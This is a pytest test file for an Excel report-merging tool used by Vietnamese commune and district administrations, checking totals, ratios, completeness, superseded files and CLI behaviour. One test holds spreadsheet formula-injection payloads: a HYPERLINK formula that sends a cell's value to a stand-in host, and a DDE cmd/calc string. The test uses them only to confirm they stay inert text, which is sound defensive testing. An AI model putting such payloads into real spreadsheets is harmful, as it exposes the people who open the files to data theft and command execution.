"""merge: exact totals, closure across levels, superseding, completeness, safety, the Kbang sample."""
from __future__ import annotations

import datetime as dt
import hashlib
import json
import random
import shutil
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from qcdc_excel import load_roster, parse_period
from qcdc_excel import Outputs, Scope, merge
from qcdc_excel.cli import main
from qcdc_excel.form import CONSOLIDATED_SHEET, META_SHEET, UNITS_SHEET
from qcdc_excel.identity import Identity
from qcdc_excel.layout import CHECK_ERROR, CHECK_OK, CHECK_WARNING, form_layout
from qcdc_excel.synthetic import fill_workbook, valid_values
from qcdc_excel.template import template_bytes
from qcdc_excel.validate import read_submission
from qcdc_excel.workbook_writer import DETAILS, FINDINGS, NOTES, STATUS

from .conftest import KBANG_ROSTER, ROOT, convert_with_soffice

KBANG_INBOX = ROOT / "samples" / "kbang-2020" / "inbox"
PERIOD = parse_period("2020")


def write_roster(path: Path, rows: list[tuple[str, str, str, str]]) -> Path:
    path.write_text("code,name,level,parent\n" + "".join(",".join(r) + "\n" for r in rows), encoding="utf-8")
    return path


def submit(folder: Path, roster, code: str, values: dict, day=dt.date(2020, 10, 20), name: str | None = None) -> Path:
    unit = roster[code]
    tpl = template_bytes(unit.level, PERIOD, Identity.of(unit, roster))
    return fill_workbook(tpl, values, folder / (name or f"{code}_2020.xlsx"),
                         report_date=dt.datetime.combine(day, dt.time()))


def values_for(catalog, level: str, seed: int) -> dict:
    return valid_values(catalog, form_layout(catalog.version, level).input_codes, random.Random(seed))


def expected_sum(values: list[dict], code: str, kind: str):
    present = [v[code] for v in values if v.get(code) is not None]
    if kind == "amount":
        return float(sum((Decimal(repr(x)) for x in present), Decimal(0)))
    return sum(present)


def sha_tree(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def district(tmp_path_factory, catalog):
    """A district with 6 communes (one missing, one late) and the district's own report."""
    base = tmp_path_factory.mktemp("district")
    rows = [("70", "Tỉnh Thử", "tinh", ""), ("700", "Huyện Thử", "huyen", "70")]
    rows += [(f"7000{k}", f"Xã Số {k}", "xa", "700") for k in range(1, 7)]
    roster = load_roster(write_roster(base / "roster.csv", rows))
    inbox = base / "inbox"
    inbox.mkdir()
    commune_values = {}
    for k in range(1, 6):  # 70006 sends nothing
        code = f"7000{k}"
        commune_values[code] = values_for(catalog, "xa", k)
        submit(inbox, roster, code, commune_values[code], dt.date(2020, 10, 27 if k == 5 else 20))
    own = values_for(catalog, "huyen", 99)
    submit(inbox, roster, "700", own, dt.date(2020, 10, 30))
    before = sha_tree(inbox)
    result = merge(inbox, Scope(roster, "2020", deadline=dt.date(2020, 10, 25)),
                   Outputs(base / "out" / "tong-hop.xlsx", base / "gop-y", json=base / "out" / "r.json"))
    return roster, inbox, result, commune_values, own, before


def test_totals_are_exact_sums_and_own_figures_stay_own(district, catalog):
    roster, inbox, result, commune_values, own, _ = district
    totals = json.loads(result.out.with_name("r.json").read_text(encoding="utf-8"))["totals"]
    communes = list(commune_values.values())
    for code, ind in catalog.indicators.items():
        if ind.kind in ("text", "ratio"):
            continue
        if ind.rollup == "own":  # the district's own work, not its communes'
            expected = own.get(code)
            if ind.kind == "flag":
                continue  # own flags stay Có/Không and are not in the numeric totals
        elif ind.kind == "flag":
            expected = sum(1 for v in communes if v.get(code) == "Có")
        else:
            expected = expected_sum(communes + ([own] if "huyen" in ind.levels else []), code, ind.kind)
        assert totals[code] == expected, code
    assert result.consolidation.totals.flag_units["II.1.1"] == 5
    assert result.consolidation.totals.units == 5


def test_ratios_are_recomputed_from_sums_never_averaged(district, catalog):
    _, _, result, commune_values, own, _ = district
    t = result.consolidation.totals
    for code in ("II.5.6", "II.9.6", "II.8.8", "III.6", "IV.9"):
        ind = catalog.indicators[code]
        num, den = t.number(ind.numerator), t.number(ind.denominator)
        assert t.ratio(ind) == pytest.approx(num / den, rel=1e-15)
    communes = list(commune_values.values())
    mean = sum(v["II.9.4"] / v["II.9.3"] for v in communes if v["II.9.3"]) / len(communes)
    weighted = sum(v["II.9.4"] for v in communes) / sum(v["II.9.3"] for v in communes)
    assert t.ratio(catalog.indicators["II.9.6"]) == pytest.approx(weighted)
    assert mean != pytest.approx(weighted)  # the sample is one where averaging would be wrong


def test_weighted_ratio_on_a_two_unit_case(tmp_path, catalog):
    rows = [("80", "Tỉnh B", "tinh", ""), ("80001", "Xã Một", "xa", "80"), ("80002", "Xã Hai", "xa", "80")]
    roster = load_roster(write_roster(tmp_path / "r.csv", rows))
    inbox = tmp_path / "in"
    inbox.mkdir()
    a = values_for(catalog, "xa", 1) | {"II.9.2": 1, "II.9.3": 1, "II.9.4": 1, "II.9.5": 0}
    b = values_for(catalog, "xa", 2) | {"II.9.2": 99, "II.9.3": 99, "II.9.4": 1, "II.9.5": 98}
    submit(inbox, roster, "80001", a)
    submit(inbox, roster, "80002", b)
    result = merge(inbox, Scope(roster), Outputs(tmp_path / "o.xlsx"))
    assert result.consolidation.totals.ratio(catalog.indicators["II.9.6"]) == pytest.approx(2 / 100)
    assert result.consolidation.parent_code == "80" and result.consolidation.level == "tinh"


def test_completeness_missing_and_late(district):
    _, _, result, _, _, _ = district
    data = json.loads(result.out.with_name("r.json").read_text(encoding="utf-8"))
    units = data["units"]
    assert units["expected"] == [f"7000{k}" for k in range(1, 7)]
    assert units["missing"] == ["70006"] and units["late"] == ["70005"]
    assert units["counts"] == {"expected": 6, "received": 5, "accepted": 5, "on-time": 4, "late": 1,
                               "rejected": 0, "unreadable": 0, "missing": 1}
    ws = openpyxl.load_workbook(result.out)[STATUS]
    rows = {}
    for r in ws.iter_rows():
        if r[0].value == "CÁC TỆP ĐÃ NHẬN":
            break  # the per-unit table ends where the list of files starts
        if r[1].value and str(r[1].value).startswith("7000"):
            rows[r[1].value] = r[3].value
    assert rows["70006"] == "Chưa nộp" and rows["70005"] == "Nộp muộn" and rows["70001"] == "Đúng hạn"


def test_the_consolidated_workbook_is_a_valid_submission_upward(district):
    roster, _, result, _, _, _ = district
    sub = read_submission(result.out, roster, "2020")
    assert sub.status == "accepted", [f.message() for f in sub.findings]
    assert (sub.unit_code, sub.level, sub.form, sub.period) == ("700", "huyen", "consolidated", "2020")
    wb = openpyxl.load_workbook(result.out)
    assert wb.sheetnames == [CONSOLIDATED_SHEET, DETAILS, STATUS, FINDINGS, NOTES, "Biểu đồ", META_SHEET, UNITS_SHEET]
    assert wb[UNITS_SHEET].sheet_state == "veryHidden"
    assert wb[META_SHEET].sheet_state == "veryHidden"
    ws = wb[CONSOLIDATED_SHEET]
    layout = form_layout("qcdc-2023.1", "huyen", "consolidated")
    assert ws.protection.sheet and ws[f"B{next(iter(layout.indicator_rows.values())).row}"].value is not None
    assert ws[layout.cells["II.9.4"]].value == result.consolidation.totals.values["II.9.4"]
    assert ws[layout.identity_cells["units"]].value == 5
    assert ws.print_area and int(ws.page_setup.paperSize) == 9
    details = wb[DETAILS]  # five communes and the district's own report: the units across, indicators down
    assert details.freeze_panes
    codes = [r[0] for r in details.iter_rows(values_only=True)]
    assert "II.9.4" in codes and "II.5.6" in codes
    units = next(r for r in details.iter_rows(values_only=True) if "70001" in r)
    assert {"70001", "70002", "70003", "70004", "70005", "700"} <= set(units)


def test_inputs_untouched_and_feedback_for_every_file(district):
    _, inbox, result, _, _, before = district
    assert sha_tree(inbox) == before
    names = sorted(p.name for p in result.feedback)
    assert names == sorted(f"{c}_2020_ket-qua-kiem-tra.xlsx" for c in ["70001", "70002", "70003", "70004", "70005", "700"])


def test_superseded_duplicate_rejected_and_excluded_files(tmp_path, catalog):
    rows = [("81", "Tỉnh C", "tinh", ""), ("810", "Huyện C", "huyen", "81"), ("811", "Huyện D", "huyen", "81")]
    rows += [("81001", "Xã A", "xa", "810"), ("81002", "Xã B", "xa", "810"), ("81101", "Xã Ngoài", "xa", "811")]
    roster = load_roster(write_roster(tmp_path / "r.csv", rows))
    inbox = tmp_path / "in"
    (inbox / "mail").mkdir(parents=True)
    first = values_for(catalog, "xa", 1)
    later = values_for(catalog, "xa", 2)
    submit(inbox, roster, "81001", first, dt.date(2020, 10, 10), "a-cu.xlsx")
    new = submit(inbox, roster, "81001", later, dt.date(2020, 10, 20), "a-moi.xlsx")
    shutil.copy(new, inbox / "mail" / "a-moi.xlsx")  # the same bytes, saved twice
    b_ok = values_for(catalog, "xa", 3)
    submit(inbox, roster, "81002", b_ok, dt.date(2020, 10, 12), "b.xlsx")
    submit(inbox, roster, "81002", b_ok | {"II.9.4": b_ok["II.9.3"] + 5}, dt.date(2020, 10, 22), "b-sua.xlsx")
    submit(inbox, roster, "81101", values_for(catalog, "xa", 4), name="ngoai.xlsx")
    other = roster["81001"]
    fill_workbook(template_bytes("xa", parse_period("2021"), Identity.of(other, roster)), first,
                  inbox / "nam-sau.xlsx", report_date=dt.datetime(2021, 10, 1))
    (inbox / "~$a-moi.xlsx").write_bytes(b"lock")
    (inbox / "ghi-chu.docx").write_bytes(b"PK")

    result = merge(inbox, Scope(roster, "2020", "810"), Outputs(tmp_path / "o.xlsx", json=tmp_path / "r.json"))
    roles = {r.sub.path.relative_to(inbox).as_posix(): r.role for r in result.consolidation.files}
    assert roles == {"a-cu.xlsx": "superseded", "a-moi.xlsx": "used", "mail/a-moi.xlsx": "duplicate",
                     "b.xlsx": "used", "b-sua.xlsx": "rejected", "ngoai.xlsx": "excluded", "nam-sau.xlsx": "excluded"}
    t = result.consolidation.totals
    assert t.values["II.9.1"] == later["II.9.1"] + b_ok["II.9.1"]  # counted once each, latest accepted
    assert sorted(r for _, r in result.report.skipped) == ["lock-file", "not-a-spreadsheet"]
    units = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["units"]
    assert [Path(p).name for p in units["superseded"]] == ["a-cu.xlsx"]
    assert units["expected"] == ["81001", "81002"] and units["missing"] == []
    assert not result.ok  # a rejected file is in the inbox: exit code 1 for the CLI


def test_include_rejected_marks_every_sheet(tmp_path, catalog):
    rows = [("82", "Tỉnh E", "tinh", ""), ("82001", "Xã E", "xa", "82"), ("82002", "Xã F", "xa", "82")]
    roster = load_roster(write_roster(tmp_path / "r.csv", rows))
    inbox = tmp_path / "in"
    inbox.mkdir()
    good = values_for(catalog, "xa", 1)
    bad = values_for(catalog, "xa", 2) | {"II.5.2": 999}
    submit(inbox, roster, "82001", good)
    submit(inbox, roster, "82002", bad)
    strict = merge(inbox, Scope(roster), Outputs(tmp_path / "a.xlsx"))
    loose = merge(inbox, Scope(roster, include_rejected=True), Outputs(tmp_path / "b.xlsx"))
    assert strict.consolidation.totals.values["II.5.2"] == good["II.5.2"]
    assert loose.consolidation.totals.values["II.5.2"] == good["II.5.2"] + 999
    assert loose.consolidation.unverified and not strict.consolidation.unverified
    wb = openpyxl.load_workbook(loose.out)
    for ws in wb.worksheets:
        if ws.title in (META_SHEET, UNITS_SHEET):  # the very hidden machine sheets
            continue
        texts = [c.value for row in ws.iter_rows(max_row=4) for c in row if isinstance(c.value, str)]
        assert any("CHƯA ĐƯỢC CHẤP NHẬN" in t for t in texts), ws.title


def test_formula_injection_stays_text(tmp_path, catalog):
    evil = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
    rows = [("83", "Tỉnh G", "tinh", ""), ("83001", "=1+1", "xa", "83"), ("83002", "Xã H", "xa", "83")]
    roster = load_roster(write_roster(tmp_path / "r.csv", rows))
    inbox = tmp_path / "in"
    inbox.mkdir()
    layout = form_layout(catalog.version, "xa")
    for code, seed, texts in (("83001", 1, evil[:2]), ("83002", 2, evil[2:])):
        path = submit(inbox, roster, code, values_for(catalog, "xa", seed))
        wb = openpyxl.load_workbook(path)
        for ref, text in zip((layout.cells["V.1"], layout.cells["V.2"]), texts):
            cell = wb["Phụ lục"][ref]
            cell.value = text
            cell.data_type = "s"  # typed as text ('=... in Excel), as a unit pasting it would
        wb.save(path)
    result = merge(inbox, Scope(roster), Outputs(tmp_path / "o.xlsx"))
    assert result.ok, [f.message() for s in result.report.submissions for f in s.findings]
    wb = openpyxl.load_workbook(result.out)
    notes = [c for row in wb[NOTES].iter_rows() for c in row if c.value in evil]
    assert sorted(c.value for c in notes) == sorted(evil)
    assert all(c.data_type == "s" for c in notes)
    names = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == "=1+1"]
    assert names and all(c.data_type == "s" for c in names)


def test_closure_district_merges_equal_the_direct_merge(tmp_path, catalog):
    rng = random.Random(42)
    rows = [("90", "Tỉnh Khép Kín", "tinh", "")]
    for d in range(1, 4):
        dcode = f"9{d:02d}"
        rows.append((dcode, f"Huyện {d}", "huyen", "90"))
        for c in range(1, rng.randint(3, 6)):
            rows.append((f"{dcode}{c:02d}", f"Xã {d}-{c}", "xa", dcode))
    roster = load_roster(write_roster(tmp_path / "r.csv", rows))
    direct = tmp_path / "tinh-truc-tiep"
    direct.mkdir()
    by_district: dict[str, Path] = {}
    seed = 0
    for unit in roster.units.values():
        if unit.level == "tinh":
            continue
        seed += 1
        folder = by_district.setdefault(unit.code if unit.level == "huyen" else unit.parent,
                                         tmp_path / f"huyen-{unit.parent if unit.level == 'xa' else unit.code}")
        folder.mkdir(exist_ok=True)
        values = values_for(catalog, unit.level, seed)
        if unit.level == "xa" and seed % 3 == 0:
            values["II.4.1"] = round(rng.uniform(0, 999), 1) + 0.1  # decimals that float sums would blur
        path = submit(folder, roster, unit.code, values)
        shutil.copy(path, direct / path.name)
    province_own = values_for(catalog, "tinh", 500)
    submit(direct, roster, "90", province_own)
    upward = tmp_path / "tinh-tu-huyen"
    upward.mkdir()
    submit(upward, roster, "90", province_own)
    for dcode, folder in by_district.items():
        r = merge(folder, Scope(roster, "2020", dcode), Outputs(upward / f"tong-hop-{dcode}.xlsx"))
        assert r.ok and r.consolidation.level == "huyen"
    a = merge(direct, Scope(roster, "2020", "90"), Outputs(tmp_path / "a.xlsx", json=tmp_path / "a.json"))
    b = merge(upward, Scope(roster, "2020", "90"), Outputs(tmp_path / "b.xlsx", json=tmp_path / "b.json"))
    ja, jb = (json.loads(p.read_text(encoding="utf-8")) for p in (tmp_path / "a.json", tmp_path / "b.json"))
    assert ja["totals"] == jb["totals"]
    assert ja["flag_units"] == jb["flag_units"]
    assert a.consolidation.totals.units == b.consolidation.totals.units == sum(1 for u in roster.units.values() if u.level == "xa")
    assert [u for u in jb["units"]["expected"]] == ["901", "902", "903"]  # districts reported as wholes
    assert len(ja["units"]["expected"]) == a.consolidation.totals.units  # communes reported one by one


def test_same_inputs_same_figures(district, tmp_path):
    roster, inbox, result, _, _, _ = district
    merge(inbox, Scope(roster, "2020", deadline=dt.date(2020, 10, 25)),
          Outputs(tmp_path / "again.xlsx", json=tmp_path / "r.json"))
    first = json.loads(result.out.with_name("r.json").read_text(encoding="utf-8"))
    second = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert first["totals"] == second["totals"] and first["units"] == second["units"]


def test_cli_merge_exit_codes(tmp_path, district):
    roster_path = tmp_path / "r.csv"
    roster, inbox, *_ = district
    write_roster(roster_path, [(u.code, u.name, u.level, u.parent or "") for u in roster.units.values()])
    runner = CliRunner()
    r = runner.invoke(main, ["merge", str(inbox), "--out", str(tmp_path / "o.xlsx"), "--roster", str(roster_path)])
    assert r.exit_code == 0, r.output
    assert "TỔNG HỢP Huyện Thử" in r.output and "II.9.6" in r.output
    for args in (["merge", str(tmp_path / "khong-co"), "--out", str(tmp_path / "x.xlsx")],
                 ["merge", str(inbox), "--out", str(tmp_path / "x.xlsx"), "--deadline", "30/10/2020"],
                 ["merge", str(inbox), "--out", str(tmp_path / "x.xlsx"), "--period", "2020Q7"],
                 ["merge", str(inbox), "--out", str(tmp_path / "x.xlsx"), "--roster", str(roster_path), "--parent", "999"]):
        r = runner.invoke(main, args)
        assert r.exit_code == 2 and "Traceback" not in r.output, (args, r.output)


# --- the shipped sample ------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def kbang(tmp_path_factory):
    out = tmp_path_factory.mktemp("kbang-merge")
    before = sha_tree(KBANG_INBOX)
    result = merge(KBANG_INBOX, Scope(load_roster(KBANG_ROSTER), "2020", deadline=dt.date(2020, 10, 25)),
                   Outputs(out / "tong-hop.xlsx", out / "gop-y", json=out / "r.json"))
    return result, out, before


def test_kbang_sample_reproduces_the_published_appendix(kbang, catalog):
    result, out, before = kbang
    assert sha_tree(KBANG_INBOX) == before
    t = result.consolidation.totals
    flags = {c: (t.values[c], t.flag_units[c]) for c in ("II.1.1", "II.3.1", "II.7.1")}
    assert flags == {"II.1.1": (14, 14), "II.3.1": (14, 14), "II.7.1": (14, 14)}
    v = {c: t.number(c) for c in t.values}
    assert (v["II.3.2"], v["II.3.3"], v["II.4.1"]) == (14, 11, 11796.9)
    assert (v["II.5.1"], v["II.5.2"], v["II.5.3"], v["II.5.4"], v["II.5.5"]) == (166, 158, 146, 10, 2)
    assert (v["II.9.1"], v["II.9.2"], v["II.9.3"], v["II.9.4"], v["II.9.5"]) == (89, 40, 17, 16, 1)
    assert round(t.ratio(catalog.indicators["II.9.6"]) * 100, 1) == 94.1
    assert (v["IV.1"], v["IV.2"], v["IV.3"], v["IV.4"], v["IV.5"], v["IV.8"]) == (89, 11, 8, 5, 5, 0)
    assert t.ratio(catalog.indicators["IV.9"]) == t.ratio(catalog.indicators["IV.10"]) == 0.625
    assert (v["III.1"], v["III.2"], v["III.3"], v["III.4"]) == (29, 28, 29, 29)
    assert round(t.ratio(catalog.indicators["III.6"]) * 100, 1) == 96.6
    assert (v["I.3.1"], v["I.3.2"], v["I.3.3"]) == (3, 3, 2)  # the district's own inspections
    ws = openpyxl.load_workbook(result.out)[CONSOLIDATED_SHEET]
    layout = form_layout(catalog.version, "huyen", "consolidated")
    assert ws[layout.cells["II.4.1"]].value == 11796.9
    assert ws[layout.cells["II.1.1"]].value == 14 and '"/14 xã, thị trấn"' in ws[layout.cells["II.1.1"]].number_format


def test_kbang_sample_shows_the_faulty_files(kbang):
    result, out, _ = kbang
    roles = {r.sub.path.name: r.role for r in result.consolidation.files}
    assert roles["23650_2020 (gui lan 1).xlsx"] == "superseded"
    assert roles["23653_2020 (gui lan 1).xlsx"] == "superseded"
    faulty = {s.path.name: s for s in result.report.submissions if s.status == "rejected"}
    assert sorted(faulty) == ["23650_2020 (gui lan 1).xlsx", "23653_2020 (gui lan 1).xlsx"]
    assert [f.rule for f in faulty["23650_2020 (gui lan 1).xlsx"].findings] == ["II.5.2-tong"]
    assert "II.9.4-le-II.9.3" in [f.rule for f in faulty["23653_2020 (gui lan 1).xlsx"].findings]
    assert result.ok  # both units have since sent accepted files: nothing is left to act on
    assert sorted(r.role for r in result.consolidation.files).count("duplicate") == 1
    status = openpyxl.load_workbook(result.out)[STATUS]
    texts = " ".join(str(c.value) for row in status.iter_rows() for c in row if c.value)
    assert "23653_2020 (gui lan 1).xlsx" in texts and "Trả lại" in texts and "Bị thay bằng bản sau" in texts
    feedback = {p.name for p in (out / "gop-y").iterdir()}
    assert "23653_2020_ket-qua-kiem-tra_23653_2020-gui-lan-1.xlsx" in feedback
    copy = openpyxl.load_workbook(out / "gop-y" / "23653_2020_ket-qua-kiem-tra_23653_2020-gui-lan-1.xlsx")
    assert copy.sheetnames[0] == "KẾT QUẢ KIỂM TRA"
    assert result.consolidation.counts()["accepted"] == 14


@pytest.mark.soffice
def test_consolidated_workbook_recalculates_in_libreoffice(kbang, district, soffice, tmp_path, catalog):
    files = [shutil.copy(kbang[0].out, tmp_path / "kbang.xlsx"), shutil.copy(district[2].out, tmp_path / "district.xlsx")]
    files = [Path(f) for f in files]
    converted = convert_with_soffice(soffice, files, tmp_path / "lo")
    for result, src in zip((kbang[0], district[2]), files):
        path = converted[src]
        layout = form_layout(catalog.version, result.consolidation.level, "consolidated")
        ws = openpyxl.load_workbook(path, data_only=True)[CONSOLIDATED_SHEET]
        t = result.consolidation.totals
        nums = {c: t.number(c) for c in t.values if not isinstance(t.values[c], str)}
        for check in layout.checks:
            status = check.rule.evaluate(nums).status
            want = {"passed": CHECK_OK, "skipped": None}.get(
                status, CHECK_ERROR if check.rule.severity == "error" else CHECK_WARNING)
            assert (ws[check.cell].value or None) == want, check.rule.id
        for code, row in layout.indicator_rows.items():
            if row.item.kind == "ratio" and t.ratio(row.item) is not None:
                assert ws[row.cell].value == pytest.approx(t.ratio(row.item))
        again = read_submission(path)
        assert again.status == "accepted", [f.message() for f in again.findings]
        assert again.values["II.9.4"] == t.values["II.9.4"]


def test_parallel_reading_gives_the_serial_results(district, tmp_path):
    roster, inbox, *_ = district
    serial = merge(inbox, Scope(roster, "2020"), Outputs(tmp_path / "s.xlsx", json=tmp_path / "s.json"), jobs=1)
    parallel = merge(inbox, Scope(roster, "2020"), Outputs(tmp_path / "p.xlsx", json=tmp_path / "p.json"), jobs=2)
    a, b = (json.loads((tmp_path / n).read_text(encoding="utf-8")) for n in ("s.json", "p.json"))
    assert a == b
    assert [s.path for s in serial.report.submissions] == [s.path for s in parallel.report.submissions]
    assert [s.findings for s in serial.report.submissions] == [s.findings for s in parallel.report.submissions]


def test_output_inside_the_inbox_is_refused_before_any_work(district, tmp_path):
    """Secretariats often save the consolidated workbook in the folder they merge: the next run would
    read it as a report. The library refuses it before reading or writing anything."""
    from qcdc_excel.i18n import QcdcError

    roster, inbox, first, *_ = district
    copy = tmp_path / "inbox"
    shutil.copytree(inbox, copy)
    before = sorted(p.relative_to(copy) for p in copy.rglob("*"))
    for out, extra in ((copy / "tong-hop.xlsx", {}), (copy / "sub" / "tong-hop.xlsx", {}),
                       (tmp_path / "tong-hop.xlsx", {"json": copy / "kq.json"})):
        with pytest.raises(QcdcError) as err:
            merge(copy, Scope(roster, "2020", deadline=dt.date(2020, 10, 25)), Outputs(out, **extra))
        assert err.value.key == "output-is-input"
    assert sorted(p.relative_to(copy) for p in copy.rglob("*")) == before
    beside = merge(copy, Scope(roster, "2020", deadline=dt.date(2020, 10, 25)), Outputs(tmp_path / "tong-hop.xlsx"))
    assert beside.consolidation.totals.values == first.consolidation.totals.values


def test_the_charts_compare_the_ratios_the_catalog_names(tmp_path):
    """The “Biểu đồ” sheet charts, unit by unit, the ratios of the catalog's ``charts:`` — no other."""
    import yaml
    from importlib import resources

    from qcdc_excel.catalog import load_catalog, parse_catalog
    from qcdc_excel.consolidate import consolidate
    from qcdc_excel.validate import ValidationReport
    from qcdc_excel.workbook_writer import CHARTS, write_consolidated

    roster = load_roster(KBANG_ROSTER)
    subs = [read_submission(p, roster) for p in sorted(KBANG_INBOX.glob("*.xlsx"))]
    data = yaml.safe_load((resources.files("qcdc_excel") / "catalogs" / "qcdc-2023.1.yaml").read_text(encoding="utf-8"))
    data["charts"] = ["II.9.6"]

    def charted(catalog) -> list[str]:
        out = write_consolidated(tmp_path / f"{len(catalog.charts)}.xlsx", consolidate(subs, catalog, roster, "2020"),
                                 ValidationReport(subs), date=dt.date(2020, 10, 30))
        ws = openpyxl.load_workbook(out)[CHARTS]
        row = next(r for r in ws.iter_rows() if r[12].value == "Đơn vị")
        return [c.value for c in row[13:] if c.value]

    shipped = load_catalog()
    assert charted(shipped) == [shipped.indicators[c].label for c in shipped.charts]
    assert charted(parse_catalog(data)) == [shipped.indicators["II.9.6"].label]
